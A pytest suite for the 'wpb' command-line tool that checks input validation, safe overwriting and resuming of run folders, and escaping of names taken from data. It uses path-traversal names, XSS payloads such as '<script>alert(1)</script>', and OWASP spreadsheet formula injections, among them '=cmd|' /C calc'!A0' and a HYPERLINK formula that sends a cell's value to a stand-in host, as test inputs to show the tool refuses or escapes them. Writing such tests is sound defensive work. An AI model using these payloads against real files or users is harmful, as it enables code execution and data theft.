"""``wpb`` keeps the user's data safe and answers bad input with one named line.

Points 8 (names built from episode data), 10 (``--force`` and failed runs), 11 (``--resume``
keyed by content) and 12 (repeated grid values), the named errors, and a parametrised list
of bad inputs across every subcommand: each exits 2 with one line naming the option or file.
Then names from the data that would forge a table row or are not text, the same episode
given twice, two runs writing one folder at once, and a model replaced before ``--resume`` or
while a run runs.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from wpb_gym.cli import main
from wpb_gym.episodes.generators.paper import generate_episode, make_config
from wpb_gym.episodes.jsonl import dumps_episode
from wpb_gym.evaluation import grid as grid_module
from wpb_gym.evaluation import run_folder

ROOT = Path(__file__).resolve().parents[2]
# For episodes read from files: TINY without the options of generated episodes.
FROM_FILES = ["--agents", "fifo_store_all", "--budgets", "1024", "--tracks", "unprivileged", "--quiet"]
TINY = ["--agents", "fifo_store_all", "--lengths", "20", "--episodes-per-condition", "2", "--budgets", "1024"]
TINY += ["--tracks", "unprivileged", "--quiet"]


def overriding_tiny(argv: list[str]) -> list[str]:
    """``argv`` without TINY's value of an option given again later (``wpb`` refuses an option
    given twice; the tests add theirs after TINY's)."""
    options = {TINY[i] for i in range(0, len(TINY) - 1, 2)}
    out: list[str] = []
    for i, arg in enumerate(argv):
        if i and argv[i - 1] in options and argv[i - 1] in argv[i + 1 :]:
            continue
        if arg in options and arg in argv[i + 1 :]:
            continue
        out.append(arg)
    return out


def wpb(capsys, *argv) -> tuple[int, str]:
    """The exit code and stderr of ``wpb argv`` (argparse's SystemExit counts as its code)."""
    capsys.readouterr()
    try:
        code = main(overriding_tiny([str(a) for a in argv]))
    except SystemExit as exit:  # the starting commit raised instead of returning
        code = exit.code if isinstance(exit.code, int) else 1
    return code, capsys.readouterr().err


def refused(capsys, *argv) -> str:
    """``wpb argv`` exits 2 with exactly one line on stderr, no traceback; returns the line."""
    code, err = wpb(capsys, *argv)
    assert code == 2, err
    lines = [line for line in err.splitlines() if line.strip() and not line.startswith("note:")]
    assert len(lines) == 1 and re.match(r"wpb[ :]", lines[0]) and "Traceback" not in err, err
    return lines[0]


def snapshot(folder: Path, skip: Path | None = None) -> dict[str, bytes | None]:
    """Every path under ``folder`` (outside ``skip``) with its bytes (None for folders)."""
    found = {}
    for path in folder.rglob("*"):
        if skip is not None and (path == skip or skip in path.parents):
            continue
        found[str(path.relative_to(folder))] = path.read_bytes() if path.is_file() else None
    return found


def write_episodes(path: Path, modes, indices=None, length=20) -> Path:
    """Episodes of the default regime whose ``labels.mode`` is set to each of ``modes``."""
    path.parent.mkdir(parents=True, exist_ok=True)
    lines = []
    for i, mode in enumerate(modes):
        data = json.loads(
            dumps_episode(generate_episode(make_config("default", length=length), 0, (indices or {}).get(i, i)))
        )
        data["labels"]["mode"] = mode
        lines.append(json.dumps(data))
    path.write_text("\n".join(lines) + "\n")
    return path


# ---------------------------------------------------------------------------- 8: names from data


@pytest.mark.parametrize(
    "mode", ["{tmp}/x/ESCAPED", "../../ESCAPED", "a/../../../b", "..", "x" * 5000, "a\x00b", "$\\frac{$"]
)
def test_8_regime_names_from_episode_data_never_escape_the_run_folder(tmp_path, capsys, mode):
    mode = mode.replace("{tmp}", str(tmp_path))
    (tmp_path / "x").mkdir()
    # Two regimes: the pictures' names then carry the regime name too.
    episodes = write_episodes(tmp_path / "data" / "ep.jsonl", [mode, mode, "default", "default"])
    out = tmp_path / "deep" / "er" / "run"
    before = snapshot(tmp_path)
    argv = ["eval", "--episodes", episodes, "--agents", "fifo_store_all", "--budgets", "1024"]
    code, err = wpb(capsys, *argv, "--tracks", "unprivileged", "--out", out, "--quiet")
    assert code == 0 or (code == 2 and "mode" in err), err  # the loader may refuse such a name
    assert snapshot(tmp_path, skip=out) == {**before, "deep": None, "deep/er": None}
    if code == 0:
        names = sorted(p.name for p in out.iterdir())
        assert len([n for n in names if n.startswith(("f1_vs_budget_", "regret_curve_"))]) == 4, names
        assert not list(out.glob(".partial-*"))


def test_8_different_regime_names_keep_different_files(tmp_path, capsys):
    episodes = write_episodes(tmp_path / "ep.jsonl", ["a/b", "a:b", "a-b", "a_b"])
    out = tmp_path / "run"
    argv = ["eval", "--episodes", episodes, "--agents", "fifo_store_all", "--budgets", "1024"]
    assert wpb(capsys, *argv, "--tracks", "unprivileged", "--out", out, "--quiet")[0] == 0
    assert len(list(out.glob("f1_vs_budget_*.png"))) == 4
    rows = (out / "results.csv").read_text().splitlines()[1:]
    assert sorted(row.split(",")[0] for row in rows) == ["a-b", "a/b", "a:b", "a_b"]


# ---------------------------------------------------------------------------- 10: --force


@pytest.mark.parametrize(
    "bad",
    [
        ["--agents", "change_detetcor"],
        ["--budgets", "1KB,1024"],
        ["--budgets", "10 kilobytes"],
        ["--regimes", "defualt"],
        ["--tracks", "privilegd"],
        ["--lengths", "0"],
        ["--episodes", "missing.jsonl"],
        ["--config", "missing.yaml"],
        ["--agents", "sb3:missing.zip"],
    ],
)
def test_10_force_with_bad_input_keeps_the_earlier_run(tmp_path, capsys, bad):
    out = tmp_path / "run"
    assert wpb(capsys, "eval", *TINY, "--out", out)[0] == 0
    (out / "notes.txt").write_text("mine")
    before = snapshot(out)
    refused(capsys, "eval", *TINY, "--out", out, "--force", *[tmp_path / b if "missing" in b else b for b in bad])
    assert snapshot(out) == before


def test_10_a_forced_run_replaces_the_earlier_one_only_once_complete(tmp_path, capsys, monkeypatch):
    out = tmp_path / "run"
    two_regimes = ["--regimes", "default,burst_drift"]
    assert wpb(capsys, "eval", *TINY, *two_regimes, "--out", out)[0] == 0
    assert wpb(capsys, "report", out, "--headroom")[0] == 0
    (out / "notes.txt").write_text("mine")
    before = snapshot(out)
    real = grid_module.run_task
    calls = []

    def interrupted(task):
        if calls:
            raise KeyboardInterrupt
        calls.append(task)
        return real(task)

    monkeypatch.setattr(grid_module, "run_task", interrupted)
    with pytest.raises(KeyboardInterrupt):
        main(["eval", *TINY, "--out", str(out), "--force"])
    assert snapshot(out, skip=next(out.glob(".partial-*"))) == before  # only a checkpoint was added
    monkeypatch.setattr(grid_module, "run_task", real)
    assert wpb(capsys, "eval", *TINY, "--out", out, "--force")[0] == 0
    names = sorted(p.name for p in out.iterdir())
    assert "f1_vs_budget.png" in names and not [n for n in names if "_T20" in n]  # pictures of the old regimes
    assert "headroom.md" not in names  # derived from the old results
    assert (out / "notes.txt").read_text() == "mine"
    assert {line.split(",")[0] for line in (out / "results.csv").read_text().splitlines()[1:]} == {"default"}
    assert not [n for n in names if n.startswith(".")]  # no staging folder, no checkpoints left


def test_10_a_failed_train_leaves_no_run_folder(tmp_path, capsys):
    out = tmp_path / "train"
    refused(capsys, "train", "--algo", "ppo", "--env-kwargs", "slots=0", "--timesteps", "8", "--out", out, "--quiet")
    refused(capsys, "train", "--algo", "ppo", "--env-kwargs", "budget=1", "--out", out, "--quiet")
    assert not out.exists()


# ---------------------------------------------------------------------------- 11: --resume


def test_11_resume_after_the_episodes_changed_starts_afresh(tmp_path, capsys, monkeypatch):
    episodes = write_episodes(tmp_path / "ep.jsonl", ["default"] * 3)
    argv = ["eval", "--episodes", episodes, "--agents", "fifo_store_all,oracle_optimal", "--budgets", "1024"]
    argv += ["--tracks", "privileged", "--quiet"]
    real = grid_module.run_task
    calls = []

    def interrupted(task):
        if len(calls) == 2:
            raise KeyboardInterrupt
        calls.append(task.ref.index)
        return real(task)

    monkeypatch.setattr(grid_module, "run_task", interrupted)
    with pytest.raises(KeyboardInterrupt):
        main([str(a) for a in argv] + ["--out", str(tmp_path / "run")])
    write_episodes(episodes, ["default"] * 3, indices={0: 5, 1: 6, 2: 7})  # edited between interrupt and resume
    calls.clear()
    monkeypatch.setattr(grid_module, "run_task", lambda task: calls.append(task.ref.index) or real(task))
    code, err = wpb(capsys, *argv, "--out", tmp_path / "run", "--resume")
    assert code == 0 and "starting afresh" in err and "other episode contents" in err, err
    assert calls == [0, 1, 2]
    assert wpb(capsys, *argv, "--out", tmp_path / "fresh")[0] == 0
    assert (tmp_path / "run" / "results.csv").read_bytes() == (tmp_path / "fresh" / "results.csv").read_bytes()
    recorded = json.loads((tmp_path / "run" / "run.json").read_text())["config"]
    assert len(recorded["episodes_sha256"]) == 64


# ---------------------------------------------------------------------------- 12: repeated values


@pytest.mark.parametrize(
    ("option", "value", "named"),
    [
        ("--budgets", "1024,1024", "1024"),
        ("--budgets", "1KB,1024", "1024"),
        ("--regimes", "default,burst_drift,default", "'default'"),
        ("--lengths", "20,30,20", "20"),
        ("--tracks", "privileged,privileged", "'privileged'"),
        ("--agents", "last_kb,last_kb", "'last_kb'"),
        ("--agents", "AlwaysWrite,fifo_store_all", "'fifo_store_all'"),
    ],
)
def test_12_repeated_grid_values_are_refused_on_the_command_line(tmp_path, capsys, option, value, named):
    line = refused(capsys, "eval", *TINY, option, value, "--out", tmp_path / "run")
    assert named in line and (option in line or "agents" in line), line
    assert not (tmp_path / "run").exists()


@pytest.mark.parametrize(
    ("setting", "named"),
    [
        ("budgets: [1024, 1024]", "budgets: 1024"),
        ("budgets: [1KB, 1024]", "budgets: 1024"),
        ("regimes: [default, default]", "regimes: 'default'"),
        ("lengths: [20, 20]", "lengths: 20"),
        ("tracks: [privileged, privileged]", "tracks: 'privileged'"),
        ("agents: [last_kb, last_kb]", "'last_kb'"),
    ],
)
def test_12_repeated_grid_values_are_refused_in_a_config(tmp_path, capsys, setting, named):
    config = tmp_path / "c.yaml"
    config.write_text(("" if setting.startswith("agents") else "agents: [last_kb]\n") + setting + "\n")
    line = refused(capsys, "eval", "--config", config, "--out", tmp_path / "run", "--quiet")
    assert named in line and "given more than once" in line or "appear twice" in line, line


def test_12_inspect_refuses_repeated_budgets_and_tracks(tmp_path, capsys):
    episodes = write_episodes(tmp_path / "ep.jsonl", ["default"])
    assert "--budgets: 1024 is given more than once" in refused(capsys, "inspect", episodes, "--budgets", "1KB,1024")
    assert "'privileged' is given more than once" in refused(
        capsys, "inspect", episodes, "--tracks", "privileged,privileged"
    )


# ---------------------------------------------------------------------------- budgets


def test_budgets_with_units_are_read_everywhere(tmp_path, capsys, monkeypatch):
    out = tmp_path / "run"
    argv = ["eval", "--agents", "fifo_store_all", "--lengths", "20", "--episodes-per-condition", "2", "--quiet"]
    assert wpb(capsys, *argv, "--budgets", "10KB,1MB", "--out", out)[0] == 0
    budgets = {int(line.split(",")[2]) for line in (out / "results.csv").read_text().splitlines()[1:]}
    assert budgets == {10240, 1 << 20}
    config = tmp_path / "c.yaml"
    config.write_text("agents: [fifo_store_all]\nlengths: [20]\nepisodes_per_condition: 2\nbudgets: [10KB, 1MB]\n")
    assert wpb(capsys, "eval", "--config", config, "--out", tmp_path / "yaml", "--quiet")[0] == 0
    assert (tmp_path / "yaml" / "results.csv").read_text() == (out / "results.csv").read_text()
    assert wpb(capsys, "report", out, "--paper-tables", "--diagnostics-budget", "10KB")[0] == 0
    assert "## Memory diagnostics at 10240 bytes" in (out / "paper_tables.md").read_text()
    episodes = write_episodes(tmp_path / "ep.jsonl", ["default"])
    assert wpb(capsys, "inspect", episodes, "--budgets", "10KB,1MB")[0] == 0
    seen = {}
    monkeypatch.setattr("agents.sb3.train.train", lambda algo, out, **kw: seen.update(kw) or {"timesteps": 0, "trained_timesteps": 0})
    train = tmp_path / "train.yaml"
    train.write_text("env: {budget_bytes: 2KB}\n")
    argv = ["train", "--algo", "ppo", "--config", train, "--out", tmp_path / "t"]
    assert wpb(capsys, *argv, "--env-kwargs", "budget_bytes=10KB")[0] == 0
    # The flag overrides the recipe's env settings, merged before training starts.
    assert seen["config"]["env"]["budget_bytes"] == 10240
    assert wpb(capsys, *argv)[0] == 0
    assert seen["config"]["env"]["budget_bytes"] == 2048


def test_a_budget_of_zero_is_valid_from_the_flag_and_the_config_alike(tmp_path, capsys):
    assert wpb(capsys, "eval", *TINY, "--budgets", "0,1KB", "--out", tmp_path / "flag")[0] == 0
    config = tmp_path / "c.yaml"
    config.write_text("agents: [fifo_store_all]\nlengths: [20]\nepisodes_per_condition: 2\nbudgets: [0, 1KB]\n")
    argv = ["eval", "--config", config, "--tracks", "unprivileged", "--out", tmp_path / "yaml", "--quiet"]
    assert wpb(capsys, *argv)[0] == 0
    assert (tmp_path / "flag" / "results.csv").read_text() == (tmp_path / "yaml" / "results.csv").read_text()
    assert (tmp_path / "flag" / "f1_vs_budget.png").stat().st_size > 0


@pytest.mark.parametrize(
    "argv",
    [
        ["eval", *TINY, "--budgets", "100000000000000000000000000000", "--out", "{w}/o"],
        ["eval", "--config", "{w}/huge.yaml", "--out", "{w}/o"],
        ["inspect", "{w}/ep.jsonl", "--budgets", "100000000000000000000000000000"],
        ["report", "{w}/o", "--paper-tables", "--diagnostics-budget", "2000GB"],
        ["train", "--algo", "ppo", "--env-kwargs", "budget_bytes=100000000000000000000000000000", "--out", "{w}/t"],
    ],
)
def test_huge_budgets_are_refused_everywhere(tmp_path, capsys, argv):
    (tmp_path / "huge.yaml").write_text("agents: [last_kb]\nbudgets: [100000000000000000000000000000]\n")
    write_episodes(tmp_path / "ep.jsonl", ["default"])
    line = refused(capsys, *[a.format(w=tmp_path) for a in argv])
    assert "at most 1099511627776 bytes" in line


# ---------------------------------------------------------------------------- named errors


def test_out_pointing_at_a_file_is_a_named_error(tmp_path, capsys):
    (tmp_path / "f").write_text("x")
    for command in (["eval", *TINY], ["freeze", "--lengths", "20", "--episodes", "1"], ["train", "--algo", "ppo"]):
        assert "--out" in refused(capsys, *command, "--out", tmp_path / "f")
        assert "lies under" in refused(capsys, *command, "--out", tmp_path / "f" / "sub")
    assert (tmp_path / "f").read_text() == "x"


def _tampered_set(tmp_path) -> Path:
    assert (
        main(["freeze", "--regimes", "default", "--lengths", "20", "--episodes", "2", "--out", str(tmp_path / "set")])
        == 0
    )
    victim = next((tmp_path / "set").glob("*.jsonl"))
    victim.write_text(victim.read_text().replace('"t": 0', '"t": 0 ', 1))
    return victim


def test_frozen_set_and_episode_format_errors_are_one_line_everywhere(tmp_path, capsys):
    victim = _tampered_set(tmp_path)
    broken = tmp_path / "broken.jsonl"
    broken.write_text('{"steps": [}\n')
    held_out = write_episodes(tmp_path / "held" / "ep.jsonl", ["default"])
    for source, named in ((tmp_path / "set", victim.name), (broken, "broken.jsonl")):
        assert named in refused(capsys, "eval", "--episodes", source, "--agents", "last_kb", "--out", tmp_path / "o")
        assert named in refused(capsys, "inspect", source, "--budgets", "1KB")
        argv = ["train", "--algo", "ppo", "--env-kwargs", f"episodes={source}", "--eval-episodes", held_out]
        assert named in refused(capsys, *argv, "--out", tmp_path / "t", "--quiet")
    assert not (tmp_path / "o").exists() and not (tmp_path / "t").exists()


def test_train_env_kwargs_errors_list_every_accepted_key(tmp_path, capsys):
    line = refused(capsys, "train", "--algo", "ppo", "--env-kwargs", "budget=100", "--out", tmp_path / "t")
    assert "unknown env argument 'budget' (did you mean 'budget_bytes'?)" in line
    for key in ("budget_bytes", "track", "slots", "episodes", "reward", "regime", "length", "drift_prob", "api_pool"):
        assert re.search(rf"\b{key}\b", line), key
    line = refused(capsys, "train", "--algo", "ppo", "--env-kwargs", "episode_seed=3", "--out", tmp_path / "t")
    assert "episode_seed is set by --seed" in line


def test_compare_versus_an_unknown_agent_lists_the_run_agents(runs, capsys):
    line = refused(capsys, "compare", runs / "both", "--versus", "sb3:bestmodel")
    assert "--versus: no agent 'sb3:bestmodel'" in line and "fifo_store_all, priority_threshold" in line


def test_paper_tables_of_a_run_without_privileged_rows_is_a_named_error(runs, capsys):
    line = refused(capsys, "report", runs / "unprivileged", "--paper-tables")
    assert "no results on the privileged track" in line and "--tracks privileged" in line
    assert not (runs / "unprivileged" / "paper_tables.md").exists()
    assert wpb(capsys, "report", runs / "unprivileged", "--paper-tables", "--track", "unprivileged")[0] == 0


# ---------------------------------------------------------------------------- text from data in reports

FORGED = "x\n| fake | 1.000 |"


def _table_rows(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("|")]


def test_a_regime_name_with_a_line_break_cannot_forge_a_leaderboard_row(tmp_path, capsys):
    episodes = write_episodes(tmp_path / "ep.jsonl", [FORGED, "default"])
    out = tmp_path / "run"
    assert wpb(capsys, "eval", "--episodes", episodes, *FROM_FILES, "--out", out)[0] == 0
    assert wpb(capsys, "report", out, "--headroom")[0] == 0
    for name in ("leaderboard.md", "headroom.md"):
        text = (out / name).read_text()
        assert not [line for line in text.splitlines() if "fake" in line and not line.startswith(("## x", "| x"))]
        assert not [row for row in _table_rows(text) if row.startswith("| fake")], text
    # results.csv keeps the name as it is: the CSV module quotes it, and it reads back whole.
    from wpb_gym.evaluation.reports.report import read_results

    assert {row["mode"] for row in read_results(out / "results.csv")} == {FORGED, "default"}


def _tables(text: str) -> list[list[str]]:
    """The Markdown tables of ``text``: runs of lines that start with '|'."""
    found: list[list[str]] = []
    previous = ""
    for line in text.splitlines():
        if line.startswith("|"):
            if not previous.startswith("|"):
                found.append([])
            found[-1].append(line)
        previous = line
    return found


def _cells(row: str) -> int:
    return len(re.split(r"(?<!\\)\|", row))


def _every_markdown_table(field: str, forged: str) -> dict[str, str]:
    """Every Markdown table the reports write, of a small grid's rows whose ``field`` (a regime
    or an agent's label) is ``forged``, with ``forged`` in every other name they take too."""
    from wpb_gym.cli.episode_sets import markdown_table
    from wpb_gym.evaluation.reports import compare, seed_stats, tables
    from wpb_gym.evaluation.reports.report import leaderboard

    rows = [dict(row) for row in _rows_of_a_small_grid()]
    for row in rows:
        if row["policy"] == "last_kb" or field == "mode":
            row[field] = forged
    lift = seed_stats.Lift(forged, 0.1, 0.0, 0.2, 0.6, 0.5, 0.7)
    learned = seed_stats.GroupResult(
        (forged, 20, 1024, "unprivileged"), forged, (forged,), 3, (0.5,), 0.5, 0.4, 0.6, 0.1, 0.0, 0.2, (lift,)
    )
    query_rows = [{**row, "query_accuracy": 0.5, "query_bound": 0.9, "query_feasible": 0.8} for row in rows]
    return {
        "leaderboard": leaderboard(rows, 1024),
        "paper": tables.paper_tables(rows, "unprivileged", 1024),
        "headroom": tables.headroom_table(rows, highlight=[forged, "fifo_store_all"]),
        "query headroom": tables.query_headroom_table(query_rows, [forged], run=forged, learned=[forged]),
        "f1_by_budget": tables.f1_by_budget_table(rows),
        "compare": compare.comparison_markdown(compare.compare_runs(rows, rows), "f1", forged, forged, wide=True),
        "ablation": compare.ablation_markdown([rows], [rows], forged, "b"),
        "transfer": tables.transfer_table(rows, [{**r, "mode": "other"} for r in rows]),
        "seeds": seed_stats.seed_table_markdown([learned]),
        "episodes": markdown_table(["regime", "file"], [[forged, forged]]),
    }


@pytest.mark.parametrize("field", ["mode", "policy"])
def test_text_from_data_cannot_add_a_row_or_a_cell_to_any_table(field):
    made = _every_markdown_table(field, FORGED + " | x \\")
    for name, text in made.items():
        assert not [line for line in text.splitlines() if line.startswith("| fake")], (name, text)
        assert "x\\n" in text or name == "transfer", (name, text)  # the line break is shown, escaped
        for table in _tables(text):
            assert {_cells(row) for row in table} == {_cells(table[0])}, (name, table)


def _rows_of_a_small_grid() -> list[dict]:
    from functools import partial

    from agents.registry import make_agent

    policies = [grid_module.PolicySpec(name, partial(make_agent, name)) for name in ("fifo_store_all", "last_kb")]
    refs = grid_module.generated_refs(["default"], [20], 3, 0)
    return grid_module.run_grid(refs, policies, [1024], ["unprivileged"])


def test_text_from_data_is_shown_on_one_line_in_markdown_and_in_plot_titles():
    from wpb_gym.evaluation.reports.markdown import markdown_text, shown

    assert shown(FORGED) == "x\\n| fake | 1.000 |" and shown("a\x00b\r\u2028c") == "a\\x00b\\r\\u2028c"
    assert markdown_text(FORGED) == "x\\n\\| fake \\| 1.000 \\|"
    assert markdown_text("a\\|b") == "a\\\\\\|b"  # a backslash of the data cannot unescape the bar
    assert shown("de\ud800fault") == "de\\ud800fault"  # and what UTF-8 cannot hold is not written as is


SCRIPT = "<script>alert(1)</script>"


@pytest.mark.parametrize("field", ["mode", "policy"])
def test_html_from_data_is_escaped_in_every_markdown_table(field):
    # MkDocs, GitHub and most renderers pass raw HTML through: a regime or label of HTML would
    # run in the browser of whoever reads a published leaderboard; a link could point anywhere.
    made = _every_markdown_table(field, f"{SCRIPT}[x](javascript:alert(2))`")
    for name, text in made.items():
        assert "<script" not in text and "</script" not in text and "[x](" not in text, (name, text)
        shown = "&lt;script&gt;alert(1)&lt;/script&gt;\\[x\\](javascript:alert(2))\\`" in text
        assert shown or (name, field) == ("transfer", "policy"), (name, text)  # (it names regimes only)


def test_markdown_text_escapes_html_links_and_code_spans_and_reads_as_the_text():
    from wpb_gym.evaluation.reports.markdown import markdown_code, markdown_text

    assert markdown_text(SCRIPT) == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert markdown_text("&lt; & [a](b) `c`") == "&amp;lt; &amp; \\[a\\](b) \\`c\\`"  # an entity of the data too
    assert markdown_text("last_kb(k=1)") == "last_kb(k=1)"  # plain names stay as they are
    # A code span escapes nothing: a name is put in one only when it can be shown there as it is.
    assert markdown_code("fifo_store_all") == "`fifo_store_all`"
    for name in (SCRIPT, "a`b", "a|b", "a\\b", "a\nb", "a&b"):
        assert markdown_code(name) == markdown_text(name), name


def test_a_regime_of_html_is_escaped_in_the_leaderboard_and_every_report(tmp_path, capsys):
    episodes = write_episodes(tmp_path / "ep.jsonl", [SCRIPT, "default"])
    config = tmp_path / "agents.yaml"
    config.write_text('agents: [fifo_store_all, {name: last_kb, label: "<img src=x onerror=alert(3)>"}]\n')
    out = tmp_path / "run"
    assert wpb(capsys, "eval", "--config", config, "--episodes", episodes, *FROM_FILES[2:], "--out", out)[0] == 0
    for argv in (["--headroom", "--highlight", "<img src=x onerror=alert(3)>"], ["--f1-by-budget"],
                 ["--paper-tables", "--track", "unprivileged", "--diagnostics-budget", "1KB"]):
        assert wpb(capsys, "report", out, *argv)[0] == 0
    shutil.copytree(out, tmp_path / "again")
    capsys.readouterr()
    assert main(["compare", str(out), str(tmp_path / "again")]) == 0
    pages = {path.name: path.read_text() for path in out.glob("*.md")}
    pages["compare"] = capsys.readouterr().out
    assert set(pages) >= {"leaderboard.md", "headroom.md", "f1_by_budget.md", "paper_tables.md", "compare"}
    for name, text in pages.items():
        assert "<script" not in text and "<img" not in text, (name, text)
        assert "&lt;img src=x onerror=alert(3)&gt;" in text, (name, text)
    for name in ("leaderboard.md", "headroom.md", "f1_by_budget.md", "compare"):
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages[name], (name, pages[name])


# ---------------------------------------------------------------------------- text that is not text


@pytest.mark.parametrize(
    ("where", "field"),
    [("mode", "labels.mode"), ("episode_id", "labels.episode_id"), ("step_mode", "steps[0].metadata.mode")],
)
def test_a_lone_surrogate_in_an_episode_name_is_refused_before_any_work(tmp_path, capsys, monkeypatch, where, field):
    data = json.loads(dumps_episode(generate_episode(make_config("default", length=20), 0, 0)))
    if where == "step_mode":
        del data["labels"]["mode"]
        data["steps"][0]["metadata"]["mode"] = "de\ud800fault"
    else:
        data["labels"][where] = "de\ud800fault"
    episodes = tmp_path / "ep.jsonl"
    episodes.write_text(json.dumps(data) + "\n")  # ensure_ascii: the file holds the escape \ud800
    monkeypatch.setattr(grid_module, "run_task", lambda task: pytest.fail("the grid ran"))
    line = refused(capsys, "eval", "--episodes", episodes, *FROM_FILES, "--out", tmp_path / "run")
    assert f"{episodes}:1: {field}: " in line and "surrogate" in line, line
    assert not (tmp_path / "run").exists()
    assert f"{episodes}:1: {field}: " in refused(capsys, "inspect", episodes)


def test_an_agent_label_that_is_not_text_is_refused(tmp_path, capsys):
    config = tmp_path / "c.yaml"
    config.write_text('agents: [{name: last_kb, label: "last\\ud800kb"}]\nlengths: [20]\nepisodes_per_condition: 1\n')
    line = refused(capsys, "eval", "--config", config, "--out", tmp_path / "run", "--quiet")
    assert "label" in line and "surrogate" in line, line
    assert not (tmp_path / "run").exists()


# ---------------------------------------------------------------------------- text a spreadsheet would run

# What a spreadsheet opening results.csv would run as a formula (OWASP's CSV injection list).
FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1)", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            '=HYPERLINK("http://x/?"&A1)']


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize(
    ("where", "field"),
    [("mode", "labels.mode"), ("episode_id", "labels.episode_id"), ("step_mode", "steps[0].metadata.mode")],
)
def test_spreadsheet_formula_injection_through_an_episode_name_is_refused_when_the_file_is_read(
    tmp_path, capsys, monkeypatch, where, field, formula
):
    data = json.loads(dumps_episode(generate_episode(make_config("default", length=20), 0, 0)))
    if where == "step_mode":
        del data["labels"]["mode"]
        data["steps"][0]["metadata"]["mode"] = formula
    else:
        data["labels"][where] = formula
    episodes = tmp_path / "ep.jsonl"
    episodes.write_text(json.dumps(data) + "\n")
    monkeypatch.setattr(grid_module, "run_task", lambda task: pytest.fail("the grid ran"))
    line = refused(capsys, "eval", "--episodes", episodes, *FROM_FILES, "--out", tmp_path / "run")
    assert line.startswith(f"wpb eval: error: {episodes}:1: {field}: expected text that a spreadsheet cannot read as "
                           "a formula"), line
    assert not (tmp_path / "run").exists()
    assert f"{episodes}:1: {field}: " in refused(capsys, "inspect", episodes)


@pytest.mark.parametrize("label", ["=1+1", "+x", "@x", "-x", "\t=1"])
def test_spreadsheet_formula_injection_through_an_agent_label_is_refused_before_any_work(tmp_path, capsys, label):
    config = tmp_path / "c.yaml"
    config.write_text(f"agents: [{{name: last_kb, label: {json.dumps(label)}}}]\nlengths: [20]\n"
                      "episodes_per_condition: 1\n")
    line = refused(capsys, "eval", "--config", config, "--out", tmp_path / "run", "--quiet")
    assert "label" in line and "formula" in line, line
    assert not (tmp_path / "run").exists()
    # The same from Python, where the grid's rows are made.
    with pytest.raises(ValueError, match="formula"):
        grid_module.PolicySpec(label, dict)
    episode = generate_episode(make_config("default", length=20), 0, 0)
    made = type(episode)(steps=episode.steps, labels={**episode.labels, "mode": label})
    with pytest.raises(ValueError, match="formula"):
        grid_module.given_refs([made])


def test_no_cell_of_any_csv_file_of_a_run_reads_as_a_formula_and_results_read_back_as_written(tmp_path, capsys):
    from wpb_gym.core.csv_cells import formula_start
    from wpb_gym.evaluation.reports.report import read_results

    # Names that only look alike: a number, and "-", "=", "@" inside a name, are not formulas.
    episodes = write_episodes(tmp_path / "ep.jsonl", ["-1.5", "a=b", "x@y", "default"])
    data = [json.loads(line) for line in episodes.read_text().splitlines()]
    data[3]["labels"]["episode_id"] = "-3"
    episodes.write_text("".join(json.dumps(d) + "\n" for d in data))
    config = tmp_path / "agents.yaml"
    config.write_text('agents: [fifo_store_all, {name: last_kb, label: "a+b"}]\n')
    out = tmp_path / "run"
    assert wpb(capsys, "eval", "--config", config, "--episodes", episodes, *FROM_FILES[2:], "--out", out)[0] == 0
    files = sorted(out.glob("*.csv"))
    assert {p.name for p in files} >= {"results.csv", "summary.csv", "recall_at_budget.csv", "confusion_matrix.csv"}
    for path in files:
        with open(path, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                assert not [cell for cell in row if formula_start(cell)], (path.name, row)
    rows = read_results(out / "results.csv")
    assert {r["mode"] for r in rows} == {"-1.5", "a=b", "x@y", "default"}
    assert {r["policy"] for r in rows} == {"fifo_store_all", "a+b"} and "-3" in {r["episode_id"] for r in rows}


# ---------------------------------------------------------------------------- one episode twice


@pytest.mark.parametrize("layout", ["one file", "two files"])
def test_the_same_episode_given_twice_is_refused_naming_both_places(tmp_path, capsys, layout):
    folder = tmp_path / "episodes"
    if layout == "one file":
        write_episodes(folder / "a.jsonl", ["default"] * 3, indices={2: 0})
        first, second = f"{folder / 'a.jsonl'}:1", f"{folder / 'a.jsonl'}:3"
    else:
        write_episodes(folder / "a.jsonl", ["default"] * 2)
        write_episodes(folder / "b.jsonl", ["default"], indices={0: 1})
        first, second = f"{folder / 'a.jsonl'}:2", f"{folder / 'b.jsonl'}:1"
    out = tmp_path / "run"
    line = refused(capsys, "eval", *FROM_FILES, "--episodes", folder, "--out", out)
    assert f"{first} and {second}" in line and "same episode" in line, line
    assert not out.exists()


def test_the_same_episode_given_twice_to_the_grid_is_refused():
    episode = generate_episode(make_config("default", length=20), 0, 0)
    other = generate_episode(make_config("default", length=20), 0, 1)
    with pytest.raises(ValueError, match="episodes 0 and 2 .*same episode"):
        grid_module.given_refs([episode, other, episode], "<mine>")


def _train_argv(tmp_path: Path, training: Path, held_out: Path) -> list:
    return ["train", "--algo", "epsilon_greedy", "--timesteps", "10", "--env-kwargs", f"episodes={training}",
            "--eval-episodes", held_out, "--out", tmp_path / "trained", "--quiet"]


def test_the_same_episode_given_twice_for_training_is_refused_naming_both_places_and_the_hash(tmp_path, capsys):
    from wpb_gym.episodes.identity import episode_hash

    training = write_episodes(tmp_path / "train.jsonl", ["default"] * 3, indices={2: 0})
    held_out = write_episodes(tmp_path / "held.jsonl", ["default"] * 2, indices={0: 5, 1: 6})
    digest = episode_hash(generate_episode(make_config("default", length=20), 0, 0))
    line = refused(capsys, *_train_argv(tmp_path, training, held_out))
    assert f"--env-kwargs episodes: {training}:1 and {training}:3 hold the same episode" in line, line
    assert f"(episode_hash {digest}): it would be drawn twice as often" in line, line
    assert not (tmp_path / "trained").exists()


def test_the_same_episode_given_twice_as_held_out_episodes_is_refused(tmp_path, capsys):
    training = write_episodes(tmp_path / "train.jsonl", ["default"] * 2)
    held_out = write_episodes(tmp_path / "held.jsonl", ["default"] * 2, indices={0: 5, 1: 5})
    line = refused(capsys, *_train_argv(tmp_path, training, held_out))
    assert f"--eval-episodes: {held_out}:1 and {held_out}:2 hold the same episode" in line, line
    assert "weigh twice in choosing the best model" in line and not (tmp_path / "trained").exists()


